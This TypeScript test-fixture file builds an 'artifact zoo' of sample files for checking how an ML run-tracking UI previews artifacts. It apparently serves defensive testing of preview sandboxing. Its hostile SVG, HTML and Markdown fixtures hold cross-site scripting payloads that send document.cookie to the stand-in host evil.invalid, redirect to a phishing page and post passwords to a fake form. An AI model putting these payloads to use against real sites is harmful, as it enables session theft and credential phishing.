/**
 * Artifact files of a world: turning a run's `artifacts` (types.ts) into bytes, and the "artifact
 * zoo" of the contract world, one file of each kind a preview must handle (images, hostile SVG and
 * HTML, big text and JSON, a PDF, nested folders, an unknown binary) plus a run with 5,000 files in
 * one folder. The seed logs these bytes into a real server; the mocks serve the same bytes.
 */

import {
  BMP_16_BASE64,
  GIF_16_BASE64,
  JPEG_16_BASE64,
  PNG_16_BASE64,
  WEBP_16_BASE64,
} from './artifact-images'
import type { WorldArtifactContent, WorldArtifactFile, WorldArtifacts, WorldArtifactSeries } from './types'

export function isArtifactSeries(artifacts: WorldArtifacts): artifacts is WorldArtifactSeries {
  return !Array.isArray(artifacts)
}

function fill(template: string, i: number): string {
  return template.replaceAll('{i}', String(i))
}

/** The text a generator stands for (see WorldArtifactContent). */
function generatedText(content: Extract<WorldArtifactContent, { template: string }>): string {
  const items: string[] = []
  for (let i = 0; i < content.count; i++) items.push(fill(content.template, i))
  return `${content.head ?? ''}${items.join(content.separator ?? '')}${content.tail ?? ''}`
}

function base64Bytes(base64: string): Uint8Array {
  const binary = atob(base64)
  const bytes = new Uint8Array(binary.length)
  for (let i = 0; i < binary.length; i++) bytes[i] = binary.charCodeAt(i)
  return bytes
}

export function artifactBytes(content: WorldArtifactContent): Uint8Array {
  if ('base64' in content) return base64Bytes(content.base64)
  return new TextEncoder().encode('text' in content ? content.text : generatedText(content))
}

/** Every file of a run's artifacts, a series expanded (cheap: the paths and contents are short). */
export function artifactFiles(artifacts: WorldArtifacts | undefined): WorldArtifactFile[] {
  if (artifacts === undefined) return []
  if (!isArtifactSeries(artifacts)) return [...artifacts]
  const files: WorldArtifactFile[] = []
  for (let i = 0; i < artifacts.count; i++) {
    files.push({
      path: `${artifacts.dir}/${artifacts.prefix}${String(i).padStart(artifacts.digits, '0')}${artifacts.suffix}`,
      content: { text: fill(artifacts.template, i) },
    })
  }
  return files
}

// ---------------------------------------------------------------------------------------------------
// The zoo

/** A minimal valid one-page PDF ("Runboard test PDF"), its xref offsets computed. */
function minimalPdf(): string {
  const stream = 'BT /F1 18 Tf 36 96 Td (Runboard test PDF) Tj ET'
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 144] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ]
  let pdf = '%PDF-1.4\n'
  const offsets: number[] = []
  objects.forEach((body, index) => {
    offsets.push(pdf.length)
    pdf += `${index + 1} 0 obj\n${body}\nendobj\n`
  })
  const xref = pdf.length
  pdf += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`
  for (const offset of offsets) pdf += `${String(offset).padStart(10, '0')} 00000 n \n`
  pdf += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`
  return pdf
}

const BENIGN_SVG =
  '<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64" viewBox="0 0 64 64">\n' +
  '  <rect width="64" height="64" fill="#f4f4f4"/>\n' +
  '  <circle cx="32" cy="32" r="20" fill="#1f77b4"/>\n' +
  '</svg>\n'

const HOSTILE_SVG =
  '<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64" onload="alert(document.cookie)">\n' +
  '  <script>fetch("https://evil.invalid/?c=" + encodeURIComponent(document.cookie))</script>\n' +
  '  <rect width="64" height="64" fill="red" onmouseover="window.top.location=\'https://evil.invalid\'"/>\n' +
  '</svg>\n'

const HOSTILE_HTML =
  '<!doctype html>\n<html><head><title>report</title>\n' +
  '<script>alert(document.cookie); new Image().src = "https://evil.invalid/steal?c=" + document.cookie;</script>\n' +
  '</head><body onload="window.top.location=\'https://evil.invalid/phish\'">\n' +
  '<h1>Quarterly report</h1>\n' +
  '<form action="https://evil.invalid/login" method="post"><input name="password" type="password"><button>Sign in</button></form>\n' +
  '<iframe src="javascript:alert(1)"></iframe>\n' +
  '</body></html>\n'

const MARKDOWN =
  '# Model card\n\n' +
  'Trained on **MNIST**, see [the docs](https://mlflow.org) and [click me](javascript:alert(document.cookie)).\n\n' +
  '<script>alert("markdown")</script>\n\n' +
  '<img src=x onerror="alert(1)">\n\n' +
  '| metric | value |\n|---|---|\n| accuracy | 0.98 |\n\n' +
  '```python\nprint("hello")\n```\n'

const NESTED_JSON = JSON.stringify(
  {
    model: {
      name: 'cnn',
      layers: [
        { type: 'conv', filters: 32 },
        { type: 'dense', units: 10 },
      ],
    },
    metrics: { accuracy: 0.98, loss: 0.05, per_class: { '0': 0.99, '1': 0.97 } },
    tags: ['baseline', 'mnist'],
    notes: null,
    ok: true,
  },
  null,
  2,
)

const YAML =
  'model:\n  name: cnn\n  layers:\n    - type: conv\n      filters: 32\n    - type: dense\n      units: 10\n' +
  'optimizer:\n  name: adam\n  lr: 0.001\nepochs: 10\n'

/** Lines of the text log: `LOG_LINE` with `{i}` replaced, one per line. */
const LOG_LINE = '2026-01-05 09:00:00,000 INFO train.py:42 step {i} loss=0.1234 lr=0.001 grad_norm=1.2345'
const LOG_LINES = 3_500

const CSV_ROWS = 3_000
const TSV_ROWS = 500
const BIG_JSON_ITEMS = 24_000

/** The artifact zoo run's files, by what they test. */
export const ARTIFACT_ZOO = {
  experiment: 'artifact-zoo',
  runName: 'artifact-zoo-run',
  manyRunName: 'artifact-many-files',
  manyDir: 'many',
  manyCount: 5_000,
  /** `many/file-0000.txt` … `many/file-4999.txt`. */
  manyFile: (i: number) => `many/file-${String(i).padStart(4, '0')}.txt`,
  paths: {
    png: 'plots/sample.png',
    jpg: 'plots/photo.jpg',
    gif: 'plots/anim.gif',
    webp: 'plots/thumb.webp',
    bmp: 'plots/raw.bmp',
    svg: 'plots/diagram.svg',
    hostileSvg: 'plots/hostile.svg',
    roc: 'plots/roc/roc_curve.png',
    log: 'logs/train.log',
    json: 'config.json',
    bigJson: 'data/predictions.json',
    yaml: 'config.yaml',
    markdown: 'README.md',
    csv: 'data/metrics.csv',
    tsv: 'data/metrics.tsv',
    html: 'reports/report.html',
    pdf: 'reports/summary.pdf',
    reportText: 'reports/notes/summary.txt',
    binary: 'model/weights.bin',
  },
  logLines: LOG_LINES,
  csvRows: CSV_ROWS,
  tsvRows: TSV_ROWS,
  bigJsonItems: BIG_JSON_ITEMS,
} as const

const P = ARTIFACT_ZOO.paths

export const ARTIFACT_ZOO_FILES: readonly WorldArtifactFile[] = [
  { path: P.png, content: { base64: PNG_16_BASE64 } },
  { path: P.jpg, content: { base64: JPEG_16_BASE64 } },
  { path: P.gif, content: { base64: GIF_16_BASE64 } },
  { path: P.webp, content: { base64: WEBP_16_BASE64 } },
  { path: P.bmp, content: { base64: BMP_16_BASE64 } },
  { path: P.svg, content: { text: BENIGN_SVG } },
  { path: P.hostileSvg, content: { text: HOSTILE_SVG } },
  { path: P.roc, content: { base64: PNG_16_BASE64 } },
  { path: P.log, content: { template: LOG_LINE, count: LOG_LINES, separator: '\n', tail: '\n' } },
  { path: P.json, content: { text: NESTED_JSON } },
  {
    path: P.bigJson,
    content: {
      head: '{"predictions": [\n',
      template: '  {"id": {i}, "label": "class-{i}", "scores": [0.125, 0.25, 0.625], "correct": true}',
      count: BIG_JSON_ITEMS,
      separator: ',\n',
      tail: '\n]}\n',
    },
  },
  { path: P.yaml, content: { text: YAML } },
  { path: P.markdown, content: { text: MARKDOWN } },
  {
    path: P.csv,
    content: {
      head: 'step,loss,accuracy\n',
      template: '{i},0.5,0.9',
      count: CSV_ROWS,
      separator: '\n',
      tail: '\n',
    },
  },
  {
    path: P.tsv,
    content: {
      head: 'step\tloss\taccuracy\n',
      template: '{i}\t0.5\t0.9',
      count: TSV_ROWS,
      separator: '\n',
      tail: '\n',
    },
  },
  { path: P.html, content: { text: HOSTILE_HTML } },
  { path: P.pdf, content: { text: minimalPdf() } },
  { path: P.reportText, content: { text: 'All good.\n' } },
  // Bytes 0..255 four times: not text, no known type.
  {
    path: P.binary,
    content: { base64: btoa(String.fromCharCode(...Array.from({ length: 1024 }, (_, i) => i % 256))) },
  },
]

export const ARTIFACT_MANY_FILES: WorldArtifactSeries = {
  dir: ARTIFACT_ZOO.manyDir,
  prefix: 'file-',
  suffix: '.txt',
  digits: 4,
  count: ARTIFACT_ZOO.manyCount,
  template: 'file {i}\n',
}
